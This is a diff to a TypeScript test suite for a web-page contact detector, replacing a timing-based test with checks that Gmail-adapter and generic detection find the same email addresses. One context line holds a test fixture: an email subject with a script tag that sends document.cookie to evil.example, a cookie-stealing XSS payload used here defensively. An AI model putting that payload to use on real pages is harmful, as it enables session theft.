@@ -31,17 +31,17 @@ describe('hostile page', () => {
     expect(ctx.subject).toBe("<b>URGENT</b><script>fetch('https://evil.example/?c='+document.cookie)</script> overdue invoice");
   });
 
-  it('stays fast on a megabyte of text, through the adapter and the generic detector', () => {
+  // How fast is the bench's business (npm run bench: first detection on a heavy page); a timed
+  // unit test only measures how busy the machine is. What must hold here is the outcome.
+  it('reads a megabyte of text through the adapter and the generic detector alike', () => {
     const doc = parseWithLinkedom(f.html);
-    let t = performance.now();
-    detectPage(doc, new URL(f.url));
-    const adapterMs = performance.now() - t;
-    t = performance.now();
-    detectPage(doc, new URL('https://example.org/'));
-    const genericMs = performance.now() - t;
-    // Generous bounds for noisy CI machines; typical runs are ~25 ms and ~90 ms.
-    expect(adapterMs).toBeLessThan(1500);
-    expect(genericMs).toBeLessThan(3000);
+    const viaAdapter = detectPage(doc, new URL(f.url));
+    const viaGeneric = detectPage(doc, new URL('https://example.org/'));
+    expect(viaAdapter.site).toBe('gmail');
+    expect(viaGeneric.site).toBe('generic');
+    const emails = (r: typeof viaAdapter) => new Set(r.contacts.flatMap((c) => (c.email ? [c.email] : [])));
+    expect(emails(viaAdapter).size).toBeGreaterThan(0);
+    for (const e of emails(viaAdapter)) expect(emails(viaGeneric)).toContain(e);
   });
 
   it('never throws when the page removes nodes or has odd roots', () => {
